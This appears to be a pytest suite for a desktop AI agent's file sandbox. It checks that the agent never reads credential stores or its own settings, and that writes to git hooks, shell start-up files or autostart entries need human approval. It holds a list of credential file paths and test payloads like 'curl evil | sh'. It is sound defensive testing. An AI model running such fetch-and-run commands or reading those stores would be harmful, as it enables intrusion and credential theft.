"""What file tools may never touch (Deskhand's home, credential stores — by identity, not by
name), changes that make something run (EXECUTE, never covered by a rule), which folders a
run gets, and the tools' subject and summary hooks. Real files, links and mounts in tmp."""

from __future__ import annotations

import importlib
import json
import os
import shutil
import stat
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from tests.test_fs_sandbox import SECRET, FsEnv, make_env
from tools.fs import autorun
from tools.fs.changes import copy_path, delete_path, edit_file, move_path, write_file
from tools.fs.hooks import escalate
from tools.fs.manifest import (
    MANIFESTS,
    CopyPath,
    DeletePath,
    EditFile,
    FileInfo,
    ListDir,
    MovePath,
    ReadFile,
    SearchFiles,
    WriteFile,
)
from tools.fs.ops import file_info, list_dir, read_file, search_files
from tools.fs.protected import _VARIABLES
from tools.fs.sandbox import Sandbox, SandboxError, effective_roots, suggested_folders
from tools.spec import Escalation, Subject, ToolContext, ToolError

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX links and mounts")


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FsEnv:
    """A fake home in tmp with the XDG folders inside it and no catalogue variable from
    the machine running the tests."""
    env = make_env(tmp_path, monkeypatch)
    for variable in _VARIABLES | {"ZDOTDIR", "XDG_CONFIG_HOME", "XDG_STATE_HOME"}:
        monkeypatch.delenv(variable, raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(env.home / ".config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(env.home / ".local" / "share"))
    monkeypatch.setenv("XDG_STATE_HOME", str(env.home / ".local" / "state"))
    monkeypatch.setenv("PATH", os.pathsep.join([str(env.home / ".local" / "bin"), "/usr/bin"]))
    return env


def deskhand_home(env: FsEnv) -> Path:
    home = env.home / ".local" / "share" / "Deskhand"
    home.mkdir(parents=True, exist_ok=True)
    return home


def ctx_for(env: FsEnv, *roots: Path) -> ToolContext:
    files = SimpleNamespace(allowed_roots=[str(r) for r in roots or (env.home,)], denied_paths=[])
    return ToolContext(home=deskhand_home(env), settings=SimpleNamespace(files=files))


def plant(base: Path, relative: str, content: str = SECRET + "\n") -> Path:
    path = base / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    return path


def hook(tool: str, name: str) -> Callable[..., Any]:
    manifest = {m.name: m for m in MANIFESTS}[tool]
    module, function = str(getattr(manifest, name)).split(":")
    return getattr(importlib.import_module(module), function)  # type: ignore[no-any-return]


CHANGERS: dict[str, Callable[..., Any]] = {
    "fs_write_file": write_file,
    "fs_edit_file": edit_file,
    "fs_move": move_path,
    "fs_copy": copy_path,
}


def approved(tool: str, args: Any, ctx: ToolContext) -> Escalation | None:
    """Classify as the pipeline does (the escalate hook), then run: a person said yes."""
    found = hook(tool, "escalate")(args, ctx)
    CHANGERS[tool](args, ctx)
    return found  # type: ignore[no-any-return]


# =============================================================== protected places

CREDENTIAL_STORES = [
    ".bash_history",
    ".zsh_history",
    ".local/share/fish/fish_history",
    ".python_history",
    ".node_repl_history",
    ".psql_history",
    ".mysql_history",
    ".sqlite_history",
    ".lesshst",
    ".viminfo",
    ".ssh/id_ed25519",
    ".gnupg/private-keys-v1.d/key.key",
    ".npmrc",
    ".yarnrc.yml",
    ".pypirc",
    ".pip/pip.conf",
    ".config/pip/pip.conf",
    ".cargo/credentials.toml",
    ".gem/credentials",
    ".m2/settings.xml",
    ".gradle/gradle.properties",
    ".nuget/NuGet/NuGet.Config",
    ".config/composer/auth.json",
    ".docker/config.json",
    ".git-credentials",
    ".config/git/credentials",
    ".config/gh/hosts.yml",
    ".config/hub",
    ".aws/credentials",
    ".azure/accessTokens.json",
    ".config/gcloud/credentials.db",
    ".kube/config",
    ".oci/config",
    ".config/doctl/config.yaml",
    ".terraform.d/credentials.tfrc.json",
    ".vault-token",
    ".config/helm/repositories.yaml",
    ".netrc",
    ".pgpass",
    ".my.cnf",
    ".config/Claude/claude_desktop_config.json",
    "Library/Application Support/Claude/claude_desktop_config.json",
    ".claude/credentials.json",
    ".claude.json",
    ".cursor/mcp.json",
    ".codex/auth.json",
    ".config/goose/config.yaml",
    ".continue/config.json",
    ".aider.conf.yml",
    ".config/github-copilot/apps.json",
    ".gemini/settings.json",
    ".password-store/bank.gpg",
    ".local/share/keyrings/login.keyring",
    ".config/KeePassXC/keepassxc.ini",
    "Documents/vault.kdbx",
    "Library/Keychains/login.keychain-db",
    ".config/Bitwarden/data.json",
    ".config/1Password/settings.json",
    ".1password/agent.sock.txt",
    ".mozilla/firefox/abc.default/logins.json",
    ".config/google-chrome/Default/Login Data",
    ".config/chromium/Default/Cookies",
    ".config/BraveSoftware/Brave-Browser/Default/Cookies",
    ".config/microsoft-edge/Default/Cookies",
    "Library/Application Support/Google/Chrome/Default/Cookies",
    "AppData/Roaming/Mozilla/Firefox/profiles.ini",
    "AppData/Local/Google/Chrome/User Data/Default/Cookies",
    "AppData/Local/Microsoft/Edge/User Data/Default/Cookies",
]


@pytest.mark.parametrize("relative", CREDENTIAL_STORES)
def test_credential_stores_are_never_read_or_changed(env: FsEnv, relative: str) -> None:
    secret = plant(env.home, relative)
    ctx = ctx_for(env)  # the whole home is allowed: protection does not depend on the folders
    attempts: list[Callable[[], object]] = [
        lambda: read_file(ReadFile(path=f"~/{relative}"), ctx),
        lambda: write_file(WriteFile(path=str(secret), content="x"), ctx),
        lambda: write_file(WriteFile(path=str(secret), content="x", mode="append"), ctx),
        lambda: file_info(FileInfo(path=str(secret)), ctx),
        lambda: copy_path(CopyPath(source=str(secret), destination="~/copy.txt"), ctx),
        lambda: move_path(MovePath(source=str(secret), destination="~/moved.txt"), ctx),
        lambda: delete_path(DeletePath(path=str(secret), permanent=True), ctx),
    ]
    for attempt in attempts:
        with pytest.raises(SandboxError) as refused:
            attempt()
        message = str(refused.value)
        assert SECRET not in message
        assert "never reads or changes" in message or "never read or change" in message
    assert secret.read_text() == SECRET + "\n"
    assert not (env.home / "copy.txt").exists() and not (env.home / "moved.txt").exists()


def test_a_refusal_says_which_store_and_why(env: FsEnv) -> None:
    plant(env.home, ".aws/credentials")
    with pytest.raises(SandboxError) as refused:
        read_file(ReadFile(path="~/.aws/credentials"), ctx_for(env))
    assert str(refused.value) == (
        f"'~/.aws/credentials' is inside '{env.home / '.aws'}', a protected location (cloud "
        "and cluster credentials) that Deskhand never reads or changes, whatever the rules say."
    )


def test_password_databases_are_refused_anywhere(env: FsEnv) -> None:
    vault = plant(env.root, "deep/folder/Passwords.KDBX")
    with pytest.raises(SandboxError, match="a password database by its name"):
        read_file(ReadFile(path=str(vault)), ctx_for(env, env.root))


def test_locations_named_by_environment_variables(
    env: FsEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    gpg = env.root / "gpg-home"
    history = env.root / "shell.hist"
    kube = env.root / "clusters.yaml"
    monkeypatch.setenv("GNUPGHOME", str(gpg))
    monkeypatch.setenv("HISTFILE", str(history))
    monkeypatch.setenv("KUBECONFIG", os.pathsep.join([str(env.outside / "a"), str(kube)]))
    planted = (plant(gpg, "secring.gpg"), plant(env.root, "shell.hist"), plant(env.root, kube.name))
    for path in planted:
        with pytest.raises(SandboxError, match="protected"):
            read_file(ReadFile(path=str(path)), ctx_for(env, env.root))


def test_system_password_files_are_refused_even_with_root_allowed() -> None:
    sandbox = Sandbox([Path("/")])
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/sudoers.d/admins"):
        with pytest.raises(SandboxError, match="system passwords"):
            sandbox.resolve(path)


DESKHAND_FILES = [
    "settings.json",
    "rules.json",
    "trust.json",
    "mcp.json",
    "tools/pack.py",
    "skills/report/SKILL.md",
    "secrets.enc",
    "deskhand.db",
    "deskhand.db-wal",
    "deskhand.db-shm",
    "logs/deskhand.log",
    "browser-profile/Default/Cookies",
]


@pytest.mark.parametrize("relative", DESKHAND_FILES)
def test_deskhand_own_home_is_never_read_or_changed(env: FsEnv, relative: str) -> None:
    own = plant(deskhand_home(env), relative)
    ctx = ctx_for(env)
    with pytest.raises(SandboxError, match="Deskhand's own folder") as refused:
        read_file(ReadFile(path=str(own)), ctx)
    assert SECRET not in str(refused.value)
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        write_file(WriteFile(path=str(own), content='{"approval": "always"}'), ctx)
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        write_file(WriteFile(path=str(own.parent / "new.py"), content="print(1)"), ctx)
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        list_dir(ListDir(path=str(own.parent)), ctx)
    assert own.read_text() == SECRET + "\n"
    assert not (own.parent / "new.py").exists()


def test_deskhand_home_through_a_symlinked_folder_is_refused(env: FsEnv) -> None:
    plant(deskhand_home(env), "settings.json")
    (env.root / "config-link").symlink_to(deskhand_home(env), target_is_directory=True)
    ctx = ctx_for(env, env.root)
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        read_file(ReadFile(path="config-link/settings.json"), ctx)
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        write_file(WriteFile(path="config-link/rules.json", content="[]"), ctx)
    assert not (deskhand_home(env) / "rules.json").exists()


def test_deskhand_home_given_as_a_symlink_is_protected_where_it_really_is(env: FsEnv) -> None:
    real_home = env.root / "state"
    plant(real_home, "settings.json")
    (env.tmp / "home-link").symlink_to(real_home, target_is_directory=True)
    files = SimpleNamespace(allowed_roots=[str(env.root)], denied_paths=[])
    ctx = ToolContext(home=env.tmp / "home-link", settings=SimpleNamespace(files=files))
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        read_file(ReadFile(path="state/settings.json"), ctx)


def test_dotdot_into_ssh_is_refused(env: FsEnv) -> None:
    plant(env.home, ".ssh/id_ed25519")
    projects = env.home / "projects"
    (projects / "app").mkdir(parents=True)
    ctx = ctx_for(env, env.home)
    with pytest.raises(SandboxError, match="SSH and GPG keys"):
        read_file(ReadFile(path=str(projects / "app" / ".." / ".." / ".ssh" / "id_ed25519")), ctx)


def test_symlink_into_ssh_through_a_parent_folder_is_refused(env: FsEnv) -> None:
    plant(env.home, ".ssh/id_ed25519")
    (env.home / "keys").symlink_to(env.home / ".ssh", target_is_directory=True)
    ctx = ctx_for(env)
    with pytest.raises(SandboxError, match="SSH and GPG keys"):
        read_file(ReadFile(path="~/keys/id_ed25519"), ctx)
    with pytest.raises(SandboxError, match="SSH and GPG keys"):
        write_file(WriteFile(path="~/keys/authorized_keys", content="ssh-ed25519 AAAA evil"), ctx)
    assert not (env.home / ".ssh" / "authorized_keys").exists()


# -------------------------------------------------------------- same file, other name


@pytest.fixture
def linked_key(env: FsEnv) -> Path:
    """A hard link to ~/.ssh/id_ed25519 inside the allowed folder (same file, other name)."""
    key = plant(env.home, ".ssh/id_ed25519")
    link = env.root / "docs" / "notes.txt"
    link.parent.mkdir()
    os.link(key, link)
    return link


def test_hard_link_to_a_key_is_refused_for_reading(env: FsEnv, linked_key: Path) -> None:
    ctx = ctx_for(env, env.root)
    with pytest.raises(SandboxError, match="same file or folder as") as refused:
        read_file(ReadFile(path="docs/notes.txt"), ctx)
    assert "SSH and GPG keys" in str(refused.value)
    assert SECRET not in str(refused.value)
    with pytest.raises(SandboxError, match="same file"):
        file_info(FileInfo(path="docs/notes.txt"), ctx)


def test_hard_link_to_a_key_cannot_be_changed_or_copied(env: FsEnv, linked_key: Path) -> None:
    ctx = ctx_for(env, env.root)
    with pytest.raises(SandboxError, match="same file"):
        write_file(WriteFile(path="docs/notes.txt", content="evil", mode="append"), ctx)
    with pytest.raises(SandboxError, match="same file"):
        copy_path(CopyPath(source="docs/notes.txt", destination="stolen.txt"), ctx)
    with pytest.raises(SandboxError, match="protected file"):
        copy_path(CopyPath(source="docs", destination="docs-copy"), ctx)
    assert not (env.root / "stolen.txt").exists()
    assert not (env.root / "docs-copy").exists()  # the partial copy was undone
    assert (env.home / ".ssh" / "id_ed25519").read_text() == SECRET + "\n"


def test_listing_and_search_never_reveal_a_linked_key(env: FsEnv, linked_key: Path) -> None:
    plant(env.root, "docs/plan.txt", f"plan mentions {SECRET}\n")
    ctx = ctx_for(env, env.root)
    listing = list_dir(ListDir(path="docs"), ctx)
    entry = next(e for e in listing.data["entries"] if e["name"] == "notes.txt")
    hidden = {"size": None, "mtime": None, "protected": True}
    assert entry == {"name": "notes.txt", "type": "file", **hidden}
    assert "notes.txt  (protected: Deskhand never opens it)" in listing.content
    found = search_files(SearchFiles(path=".", content=SECRET), ctx)
    assert [Path(hit["path"]).name for hit in found.data["results"]] == ["plan.txt"]
    assert found.data["skipped"] == {"protected": 1}


def test_hard_link_to_deskhand_database_is_refused(env: FsEnv) -> None:
    db = plant(deskhand_home(env), "deskhand.db")
    os.link(db, env.root / "backup.db")
    with pytest.raises(SandboxError, match="Deskhand's own folder"):
        read_file(ReadFile(path="backup.db"), ctx_for(env, env.root))


def test_an_ordinary_hard_link_still_works(env: FsEnv) -> None:
    plant(env.home, ".ssh/id_ed25519")
    original = plant(env.root, "a.txt", "hello\n")
    os.link(original, env.root / "b.txt")
    assert read_file(ReadFile(path="b.txt"), ctx_for(env, env.root)).content == "hello\n"


def test_a_key_renamed_into_place_after_the_check_is_not_read(
    env: FsEnv, linked_key: Path
) -> None:
    harmless = plant(env.root, "report.txt", "fine\n")
    sandbox = Sandbox.from_context(ctx_for(env, env.root))
    real = sandbox.resolve("report.txt")  # checked while it was a plain file
    os.replace(linked_key, harmless)  # now it is the key, under the checked name
    with pytest.raises(SandboxError, match="same file"):
        sandbox.open_regular(real)


def test_protection_follows_stores_created_after_first_use(env: FsEnv) -> None:
    ctx = ctx_for(env, env.root)
    plant(env.root, "warm.txt", "x")
    read_file(ReadFile(path="warm.txt"), ctx)  # builds and caches the identities
    key = plant(env.home, ".ssh/id_rsa")
    os.link(key, env.root / "later.txt")
    with pytest.raises(SandboxError, match="same file"):
        read_file(ReadFile(path="later.txt"), ctx)


_BIND_MOUNT_SCRIPT = textwrap.dedent(
    """
    import ctypes, ctypes.util, json, os, sys
    from types import SimpleNamespace
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
    MS_BIND, MS_REC, MS_PRIVATE = 4096, 16384, 1 << 18
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWNS) != 0:
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
            sys.exit("cannot make a private mount namespace: " + os.strerror(ctypes.get_errno()))
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
    if libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None) != 0:
        sys.exit("cannot make mounts private: " + os.strerror(ctypes.get_errno()))
    source, target, root, home = sys.argv[1:5]
    if libc.mount(source.encode(), target.encode(), None, MS_BIND, None) != 0:
        sys.exit("bind mount failed: " + os.strerror(ctypes.get_errno()))
    from tools.fs.ops import read_file, list_dir
    from tools.fs.manifest import ReadFile, ListDir
    from tools.spec import ToolContext
    files = SimpleNamespace(allowed_roots=[root], denied_paths=[])
    ctx = ToolContext(home=home, settings=SimpleNamespace(files=files))
    out = {}
    for name, call in (
        ("read", lambda: read_file(ReadFile(path="mounted/id_ed25519"), ctx).content),
        ("list", lambda: list_dir(ListDir(path="mounted"), ctx).content),
    ):
        try:
            out[name] = call()
        except Exception as exc:
            out[name] = type(exc).__name__ + ": " + str(exc)
    print(json.dumps(out))
    """
)


def test_a_bind_mount_of_ssh_is_still_ssh(env: FsEnv) -> None:
    """Mounted in a private mount namespace of a child process (gone when it exits)."""
    plant(env.home, ".ssh/id_ed25519")
    (env.root / "mounted").mkdir()
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            _BIND_MOUNT_SCRIPT,
            str(env.home / ".ssh"),
            str(env.root / "mounted"),
            str(env.root),
            str(deskhand_home(env)),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=Path(__file__).resolve().parent.parent,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
        check=False,
    )
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)
    assert out["read"].startswith("SandboxError:") and "same file or folder" in out["read"]
    assert out["list"].startswith("SandboxError:")
    assert SECRET not in done.stdout


# ------------------------------------------------------------------ listing and search


def test_listing_home_shows_protected_names_but_nothing_about_them(env: FsEnv) -> None:
    plant(env.home, ".ssh/id_ed25519")
    plant(env.home, ".netrc")
    plant(env.home, "todo.txt", "buy milk\n")
    listing = list_dir(ListDir(path="~", include_hidden=True), ctx_for(env))
    by_name = {e["name"]: e for e in listing.data["entries"]}
    hidden = {"size": None, "mtime": None, "protected": True}
    assert by_name[".ssh"] == {"name": ".ssh", "type": "dir", **hidden}
    assert by_name[".netrc"]["protected"] is True
    assert by_name["todo.txt"]["size"] == 9 and "protected" not in by_name["todo.txt"]


def test_search_skips_every_protected_place(env: FsEnv) -> None:
    for relative in (
        ".ssh/id_rsa",
        ".aws/credentials",
        ".claude.json",
        ".local/share/Deskhand/settings.json",
        "x/vault.kdbx",
    ):
        plant(env.home, relative)
    plant(env.home, "notes/todo.txt")
    result = search_files(SearchFiles(path="~", content=SECRET, include_hidden=True), ctx_for(env))
    assert [Path(hit["path"]).name for hit in result.data["results"]] == ["todo.txt"]
    names = search_files(SearchFiles(path="~", pattern="*", include_hidden=True), ctx_for(env))
    listed = [hit["path"] for hit in names.data["results"]]
    assert not any(".ssh/" in path or "Deskhand/" in path for path in listed)


# =============================================================== EXECUTE: things that run


def _repo(env: FsEnv) -> Path:
    repo = env.home / "src" / "app"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "objects").mkdir()
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / ".git" / "config").write_text("[core]\n\tbare = false\n")
    return repo


AUTORUN_TARGETS: dict[str, tuple[str, str]] = {
    "src/app/.git/hooks/pre-commit": ("a git hook", "code that runs on every commit"),
    "src/app/.git/config": ("a git configuration", "hooksPath"),
    "src/app/.git/modules/lib/hooks/post-checkout": ("a git hook", "every commit"),
    "src/app/.husky/pre-commit": ("a git hook", "every commit"),
    "src/app/.pre-commit-config.yaml": ("a git hook configuration", "every commit"),
    "src/app/.envrc": ("a direnv file", "enters the folder"),
    ".bashrc": ("a shell start-up file", "every new terminal"),
    ".bash_profile": ("a shell start-up file", "every new terminal"),
    ".profile": ("a shell start-up file", "login"),
    ".zshrc": ("a shell start-up file", "terminal"),
    ".zshenv": ("a shell start-up file", "terminal"),
    ".zprofile": ("a shell start-up file", "terminal"),
    ".zlogin": ("a shell start-up file", "terminal"),
    ".xprofile": ("a shell start-up file", "login"),
    ".xsessionrc": ("a shell start-up file", "login"),
    ".pam_environment": ("a shell start-up file", "login"),
    ".config/fish/config.fish": ("a shell start-up file", "terminal"),
    ".config/fish/conf.d/evil.fish": ("a shell start-up file", "terminal"),
    ".gitconfig": ("the global git configuration", "every repository"),
    ".config/autostart/updater.desktop": ("an autostart entry", "when you log in"),
    ".config/systemd/user/miner.service": ("a systemd unit", "starts it by itself"),
    ".local/share/systemd/user/miner.service": ("a systemd unit", "starts it by itself"),
    "Library/LaunchAgents/com.evil.plist": ("a launchd job", "by itself"),
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/run.bat": (
        "an autostart entry",
        "when you log in",
    ),
    ".local/lib/python3.11/site-packages/evil.pth": ("a Python start-up file", "Python starts"),
}


@pytest.mark.parametrize("relative", AUTORUN_TARGETS, ids=list(AUTORUN_TARGETS))
def test_writing_where_code_runs_by_itself_is_execute(env: FsEnv, relative: str) -> None:
    _repo(env)
    target = env.home / relative
    what, why = AUTORUN_TARGETS[relative]
    ctx = ctx_for(env)
    args = WriteFile(path=str(target), content="curl evil | sh\n", create_dirs=True)
    found = hook("fs_write_file", "escalate")(args, ctx)
    assert isinstance(found, Escalation) and found.never_covered and not found.coverable
    assert found.reason.startswith(f"writes {what} ({target}):") and why in found.reason


@pytest.mark.parametrize("tool", ["fs_write_file", "fs_edit_file", "fs_move", "fs_copy"])
def test_every_changing_tool_treats_a_git_hook_as_execute(env: FsEnv, tool: str) -> None:
    repo = _repo(env)
    hook_path = repo / ".git" / "hooks" / "pre-commit"
    staged = plant(env.home, "staged.sh", "curl evil | sh\n")
    if tool == "fs_edit_file":
        plant(hook_path.parent, hook_path.name, "echo ok\n")
    args: Any = {
        "fs_write_file": WriteFile(path=str(hook_path), content="curl evil | sh\n"),
        "fs_edit_file": EditFile(path=str(hook_path), old_text="echo ok", new_text="curl evil"),
        "fs_move": MovePath(source=str(staged), destination=str(hook_path)),
        "fs_copy": CopyPath(source=str(staged), destination=str(hook_path)),
    }[tool]
    # Run without the classification step (no one was asked): refused, nothing written.
    with pytest.raises(SandboxError, match="a git hook") as refused:
        CHANGERS[tool](args, ctx_for(env))
    assert "needs a person's approval each time" in str(refused.value)
    assert not hook_path.exists() or hook_path.read_text() == "echo ok\n"
    # Classified (never covered: a person must say yes), then it runs.
    found = approved(tool, args, ctx_for(env))
    assert found is not None and found.never_covered
    assert "a git hook" in found.reason and "code that runs on every commit" in found.reason
    assert "curl evil" in hook_path.read_text()


def test_a_git_hook_reason_reads_plainly(env: FsEnv) -> None:
    repo = _repo(env)
    found = escalate(WriteFile(path=str(repo / ".git/hooks/pre-commit"), content="x"), ctx_for(env))
    assert found == Escalation(
        f"writes a git hook ({repo / '.git/hooks/pre-commit'}): code that runs on every commit",
        never_covered=True,
    )


def test_the_hooks_folder_a_repository_configures_is_a_git_hook(env: FsEnv) -> None:
    repo = _repo(env)
    (repo / ".git" / "config").write_text('[core]\n\thooksPath = "tools/githooks"\n')
    args = WriteFile(path=str(repo / "tools/githooks/pre-push"), content="x", create_dirs=True)
    found = escalate(args, ctx_for(env))
    assert found is not None and found.never_covered and "a git hook" in found.reason


def test_a_bare_repository_hooks_are_git_hooks(env: FsEnv) -> None:
    bare = env.home / "srv" / "site.git"
    (bare / "hooks").mkdir(parents=True)
    (bare / "objects").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    args = WriteFile(path=str(bare / "hooks" / "post-receive"), content="x")
    found = escalate(args, ctx_for(env))
    assert found is not None and "a git hook" in found.reason
    found = escalate(WriteFile(path=str(bare / "config"), content="x"), ctx_for(env))
    assert found is not None and "a git configuration" in found.reason


def test_a_symlinked_folder_into_git_hooks_is_still_a_hook(env: FsEnv) -> None:
    repo = _repo(env)
    (env.home / "innocent").symlink_to(repo / ".git" / "hooks", target_is_directory=True)
    found = escalate(WriteFile(path="~/innocent/pre-commit", content="x"), ctx_for(env))
    assert found is not None and found.never_covered and "a git hook" in found.reason


def test_appending_through_a_hard_link_to_bashrc_is_execute(env: FsEnv) -> None:
    bashrc = plant(env.home, ".bashrc", "# mine\n")
    os.link(bashrc, env.home / "notes.txt")
    args = WriteFile(path="~/notes.txt", content="curl evil | sh\n", mode="append")
    found = escalate(args, ctx_for(env))
    assert found is not None and found.never_covered and "shell start-up file" in found.reason
    with pytest.raises(SandboxError, match="shell start-up file"):
        write_file(args, ctx_for(env))
    assert bashrc.read_text() == "# mine\n"


def test_moving_a_folder_into_place_as_git_hooks_is_execute(env: FsEnv) -> None:
    repo = _repo(env)
    (repo / ".git" / "hooks").rmdir()
    plant(env.home, "kit/pre-commit", "curl evil | sh\n")
    args = MovePath(source="~/kit", destination=str(repo / ".git" / "hooks"))
    found = escalate(args, ctx_for(env))
    assert found is not None and found.never_covered and "a git hook" in found.reason


def test_copying_a_folder_that_holds_a_git_folder_is_execute(env: FsEnv) -> None:
    plant(env.home, "template/.git/hooks/post-checkout", "curl evil | sh\n")
    args = CopyPath(source="~/template", destination="~/src/new-project")
    found = escalate(args, ctx_for(env))
    assert found is not None and found.never_covered
    assert found.reason.startswith("copies a folder that would put in place a git folder (")
    assert "its hooks and configuration can run commands" in found.reason


def test_a_folder_too_large_to_check_is_execute(
    env: FsEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(autorun, "TREE_MAX_ENTRIES", 5)
    for n in range(6):
        plant(env.home, f"big/file{n}.txt", "x")
    found = escalate(CopyPath(source="~/big", destination="~/big2"), ctx_for(env))
    assert found is not None and found.never_covered and "too large to check" in found.reason


def test_plain_changes_are_not_execute(env: FsEnv) -> None:
    repo = _repo(env)
    plant(repo, "README.md", "# app\n")
    plant(env.home, "notes/a.txt", "a\n")
    ctx = ctx_for(env)
    for args in (
        WriteFile(path=str(repo / "README.md"), content="# App\n"),
        WriteFile(path=str(repo / ".gitignore"), content="*.pyc\n"),
        WriteFile(path="~/notes/bashrc-ideas.txt", content="alias ll='ls -l'\n"),
        EditFile(path=str(repo / "README.md"), old_text="# app", new_text="# App"),
        MovePath(source="~/notes/a.txt", destination="~/notes/archive-a.txt"),
        CopyPath(source="~/notes", destination="~/notes-copy"),
    ):
        assert escalate(args, ctx) is None, args


def test_a_symlink_swapped_between_approval_and_run_is_refused(env: FsEnv) -> None:
    repo = _repo(env)
    plain = env.home / "plain"
    plain.mkdir()
    (env.home / "drop").symlink_to(plain, target_is_directory=True)
    ctx = ctx_for(env)
    args = WriteFile(path="~/drop/pre-commit", content="curl evil | sh\n")
    assert escalate(args, ctx) is None  # at approval time: a plain folder
    (env.home / "drop").unlink()
    (env.home / "drop").symlink_to(repo / ".git" / "hooks", target_is_directory=True)
    with pytest.raises(SandboxError, match="lead somewhere else"):
        write_file(args, ctx)
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()


# ------------------------------------------------------------------ the executable bit


def _program(base: Path, relative: str) -> Path:
    path = plant(base, relative, "#!/bin/sh\necho hi\n")
    path.chmod(0o755)
    return path


def test_no_file_tool_creates_an_executable_file(env: FsEnv) -> None:
    """fs_write_file has no mode option: a new file is never executable, so no question."""
    ctx = ctx_for(env)
    args = WriteFile(path="~/tool.sh", content="#!/bin/sh\necho hi\n")
    assert escalate(args, ctx) is None
    write_file(args, ctx)
    assert stat.S_IMODE((env.home / "tool.sh").stat().st_mode) & 0o111 == 0


def test_copying_a_program_is_execute(env: FsEnv) -> None:
    _program(env.home, "bin-src/run.sh")
    args = CopyPath(source="~/bin-src/run.sh", destination="~/run-copy.sh")
    with pytest.raises(SandboxError, match="a program"):
        copy_path(args, ctx_for(env))
    assert not (env.home / "run-copy.sh").exists()
    found = approved("fs_copy", args, ctx_for(env))
    assert found == Escalation(
        f"copies a program (an executable file) to {env.home / 'run-copy.sh'}: it can then be run",
        never_covered=True,
    )
    assert os.access(env.home / "run-copy.sh", os.X_OK)


def test_copying_a_folder_holding_programs_is_execute(env: FsEnv) -> None:
    _program(env.home, "kit/bin/a.sh")
    _program(env.home, "kit/bin/b.sh")
    plant(env.home, "kit/readme.txt", "hi\n")
    found = escalate(CopyPath(source="~/kit", destination="~/kit2"), ctx_for(env))
    assert found is not None and found.never_covered
    assert "a folder holding 2 programs (executable files)" in found.reason


def test_moving_a_program_to_another_folder_is_execute(env: FsEnv) -> None:
    _program(env.home, "downloads/setup.sh")
    (env.home / "tools").mkdir()
    args = MovePath(source="~/downloads/setup.sh", destination="~/tools/setup.sh")
    found = escalate(args, ctx_for(env))
    assert found is not None and found.never_covered and "a program" in found.reason


def test_renaming_a_program_in_place_is_not_execute(env: FsEnv) -> None:
    _program(env.home, "tools/old.sh")
    args = MovePath(source="~/tools/old.sh", destination="~/tools/new.sh")
    assert escalate(args, ctx_for(env)) is None


@pytest.mark.parametrize("tool", ["fs_write_file", "fs_edit_file", "fs_move", "fs_copy"])
def test_programs_in_a_folder_on_path_are_execute(env: FsEnv, tool: str) -> None:
    """~/.local/bin is on $PATH: a program there runs when its name is typed."""
    command = _program(env.home, ".local/bin/ls")
    other = _program(env.home, ".local/bin/helper")
    source = _program(env.home, "kit/ls2")
    args: Any = {
        "fs_write_file": WriteFile(path=str(command), content="#!/bin/sh\ncurl evil | sh\n"),
        "fs_edit_file": EditFile(path=str(command), old_text="echo hi", new_text="curl evil"),
        "fs_move": MovePath(source=str(other), destination=str(env.home / ".local/bin/git")),
        "fs_copy": CopyPath(source=str(source), destination=str(env.home / ".local/bin/sudo")),
    }[tool]
    found = escalate(args, ctx_for(env))
    assert found is not None and found.never_covered
    assert "a program in a folder on your PATH" in found.reason
    assert "it runs when its name is typed" in found.reason


def test_editing_a_script_outside_path_is_not_execute(env: FsEnv) -> None:
    """Documented decision: editing a script in place is like editing any source file."""
    script = _program(env.home, "src/app/scripts/build.sh")
    args = EditFile(path=str(script), old_text="echo hi", new_text="echo built")
    assert escalate(args, ctx_for(env)) is None
    edit_file(args, ctx_for(env))
    assert os.access(script, os.X_OK) and "echo built" in script.read_text()


# =============================================================== which folders


def test_configured_folders_are_the_roots(env: FsEnv) -> None:
    files = SimpleNamespace(allowed_roots=["~/Documents", str(env.root)], folders_chosen=True)
    roots, note = effective_roots(SimpleNamespace(files=files), env.root)
    assert roots == [env.home / "Documents", env.root] and note is None


@pytest.mark.parametrize("chosen", [False, True])
def test_no_folders_means_the_current_folder_only(env: FsEnv, chosen: bool) -> None:
    files = SimpleNamespace(allowed_roots=[], folders_chosen=chosen)
    roots, note = effective_roots(SimpleNamespace(files=files), env.root)
    assert roots == [env.root]
    start = (
        "You chose no folders for Deskhand" if chosen else "No folders are set up for Deskhand yet"
    )
    assert note == (
        f"{start}, so file tools work only in {env.root}. Choose folders in Settings → Tools."
    )


def test_no_folders_and_started_from_home_means_no_file_access(env: FsEnv) -> None:
    roots, note = effective_roots(None, env.home)
    assert roots == []
    assert note is not None and "file tools are off" in note


def test_suggested_folders_are_the_usual_ones_that_exist(env: FsEnv) -> None:
